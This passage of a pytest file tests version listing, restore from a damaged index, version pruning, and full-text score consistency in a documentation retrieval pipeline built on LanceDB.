                                             rf"logged by the refresh of \S+Z, whose version is gone: its tag "
                                             rf"{e['tag']} is not on the table \(the table was deleted and built "
                                             r"again since, .*restorable: "):
            refresh.restore(ctx, e["version"])
    assert sorted(r["chunk_id"] for r in ctx.chunks.rows()) == served
    assert refresh.versions(ctx) == now


def test_versions_and_restore_go_back_from_a_damaged_index(guide):
    """The way back troubleshooting.md and the error message give for a damaged index ("Go back to a
    version that reads: `docs-rag versions`, then `docs-rag restore VERSION`") failed: both commands read
    the served version first and died with that same message (exit 74). `versions` now lists every
    logged version and marks those that cannot be read; `restore` brings back one that reads, and
    refuses one that does not, naming those that do."""
    root = guide.parent
    ctx = get_context(guide)
    refresh.refresh(ctx, "guide")
    _edit(root)
    refresh.refresh(ctx, "guide")
    second, first = refresh.versions(ctx)
    (table,) = (root / "data" / "lancedb").glob("chunks__*.lance")
    newest = max((table / "data").glob("*.lance"), key=lambda p: p.stat().st_mtime_ns)
    newest.unlink()  # the file the last refresh wrote: the first version still reads
    out = _run(["search", "QUOKKA_MODE uv"], guide)
    assert out.returncode == 74 and "`docs-rag versions`, then `docs-rag restore VERSION`" in out.stderr, out.stderr

    out = _run(["versions", "--json"], guide)
    assert out.returncode == 0, out.stderr
    listed = json.loads(out.stdout)
    assert [(e["version"], e["current"], e["readable"]) for e in listed] == [(second["version"], False, False),
                                                                            (first["version"], False, True)]
    human = _run(["versions"], guide)
    assert human.returncode == 0 and "Traceback" not in human.stderr, human.stderr
    assert f"!{second['version']:>8}" in human.stdout and "CANNOT BE READ" in human.stdout
    assert f"of table {table.name[:-6]}, served now, cannot be read: a file of it is missing or damaged (" \
        in human.stderr and f"delete {table} and run `docs-rag ingest`" in human.stderr, human.stderr

    bad = _run(["restore", str(second["version"])], guide)
    assert bad.returncode == 2 and "Traceback" not in bad.stderr, bad.stderr
    assert (f"error: version {second['version']} of {table.name[:-6]} cannot be restored: a file of it is missing "
            "or damaged (") in bad.stderr and f"versions that read: {first['version']}; or rebuild" in bad.stderr
    back = _run(["restore", str(first["version"])], guide)
    assert back.returncode == 0, back.stderr
    assert f"restored version {first['version']}" in back.stdout and "could not be read" in back.stderr
    res = _run(["search", "install the package with pip Python 3.11", "--json", "--top-k", "1"], guide)
    assert res.returncode == 0 and "Install the package with pip" in json.loads(res.stdout)[0]["text"], res.stderr
    after = json.loads(_run(["versions", "--json"], guide).stdout)
    assert after[0]["action"] == "restore" and after[0]["current"] and after[0]["readable"]


def test_keep_versions_days_zero_keeps_only_the_two_newest_refresh_versions(tmp_path):
    """configuration.md: with ``storage.keep_versions_days: 0`` only the two newest refresh versions
    are kept, as for purging a text removed from the docs (a leaked secret). Every cleanup spared an
    hour more, and ran before the refresh's own version was tagged: all five refreshes of the last
    hour stayed listed and restorable, their rows on disk. Now the refresh counts its own version
    among the two, the cleanup reaches to the commit of the older one kept, and no version left on
    disk holds an older revision's text."""
    import time

    from docs_rag_pipeline.store import VersionLog

    write_docs(tmp_path / "docs", GUIDE)
    cfg = write_config(tmp_path)
    cfg.write_text(cfg.read_text().replace(f"storage: {tmp_path / 'data'}\n",
                                           f"storage: {{path: {tmp_path / 'data'}, keep_versions_days: 0}}\n"))
    ctx = get_context(cfg)
    assert ctx.chunks.keep_versions == timedelta(0)
    for i in range(5):
        time.sleep(1.5)  # apart by more than the cleanup's margin for the clock (store._CLOCK_MARGIN)
        (tmp_path / "docs" / "extra.md").write_text(f"# Extra\n\nRevision {i} of the zebra page.\n")
        lines: list[str] = []
        refresh.refresh(ctx, "guide", log=lines.append)
        assert not [ln for ln in lines if "optimize failed" in ln], lines
    listed = refresh.versions(ctx)
    assert [e["action"] for e in listed] == ["refresh", "refresh"] and listed[0]["current"]
    assert len(ctx.chunks.tag_names()) == 2
    for v in ctx.chunks.kept_versions():
        texts = " ".join(r["text"] for r in ctx.chunks.at_version(v).rows())
        assert not any(f"Revision {i} of the zebra page" in texts for i in range(3)), (v, texts)
    gone = VersionLog(ctx.db).entries(ctx.chunks.name)[-3]
    with pytest.raises(ValueError, match=f"version {gone['version']} of .* cannot be restored"):
        refresh.restore(ctx, gone["version"])


def _paragraph_rows(pages: dict[str, list[str]], changed: str | None) -> list[dict]:
    """Rows of a chunks table, one per paragraph, as a refresh writes them: a page's rows carry its content
    hash, so a changed page's rows that keep their text keep their id and are updated in place; vectors are
    fixed by the text (the test is about the full-text index, not the embedder)."""
    import hashlib

    rows = []
    for page, paras in pages.items():
        for i, text in enumerate(paras[: len(paras) // 2] if page == changed else paras):
            seed = int(hashlib.sha256(text.encode()).hexdigest()[:8], 16)
            rows.append({"chunk_id": hashlib.sha256(f"{page}|{text}".encode()).hexdigest()[:32], "source": "guide",
                         "page_url": page, "url": page, "title": page, "headings": [], "parent_id": None,
                         "chunk_index": i, "text": text, "content_hash": f"{page}:{page == changed}",
                         "token_count": len(text.split()), "updated_at": "", "metadata": "{}", "tags": [],
                         "vector": np.random.default_rng(seed).standard_normal(8).astype("float32")})
    return rows


def test_after_a_refresh_full_text_scores_are_those_of_a_clean_ingest(tmp_path):
    """A write that replaced or deleted rows of a table compacted by an earlier optimize (a refresh that
    changed nothing compacts) left those rows in the statistics of the full-text index: the optimize after
    the write could not compact the new fragment, not indexed yet, with the indexed one, so BM25 scored
    otherwise than on a clean ingest of the same pages (another top 5 for `how are chunk ids computed` on
    this project's docs), until a later refresh compacted. Now the optimize compacts once all is indexed.
    Real LanceDB; the pages are this project's docs, each in turn cut in half and back."""
    from docs_rag_pipeline.store import ChunksTable, connect

    docs = sorted((Path(__file__).resolve().parents[1] / "docs").glob("*.md"))[:5]
    pages = {f.name: [p for p in f.read_text(encoding="utf-8").split("\n\n") if p.strip()] for f in docs}
    queries = ["chunk ids computed", "how a refresh writes the index", "search answers with citations"]

    def table(name: str) -> ChunksTable:
        return ChunksTable(connect(str(tmp_path / name)), model="m", dimensions=8)

    def scores(t: ChunksTable) -> list:
        return [sorted((r["chunk_id"], round(r["_score"], 4)) for r in t.open().search(q, query_type="fts")
                       .select(["chunk_id"]).limit(10_000).to_arrow().to_pylist()) for q in queries]

    for changed in pages:
        versions = {"A": _paragraph_rows(pages, None), "B": _paragraph_rows(pages, changed)}
        clean = {}
        for name, rows in versions.items():
            t = table(f"clean-{changed}-{name}")
            t.upsert_source("guide", rows, replace_pages=[])
            t.ensure_indexes_and_optimize()
            clean[name] = scores(t)
        inc, held = table(f"refreshed-{changed}"), []
        for step, name in enumerate("ABBA"):  # the second B changes nothing: its optimize compacts
            rows = versions[name]
            inc.upsert_source("guide", rows, replace_pages={r["page_url"] for r in rows + held})
            inc.ensure_indexes_and_optimize()
            held = rows
            assert scores(inc) == clean[name], f"{changed} cut and back, refresh {step} to {name}"
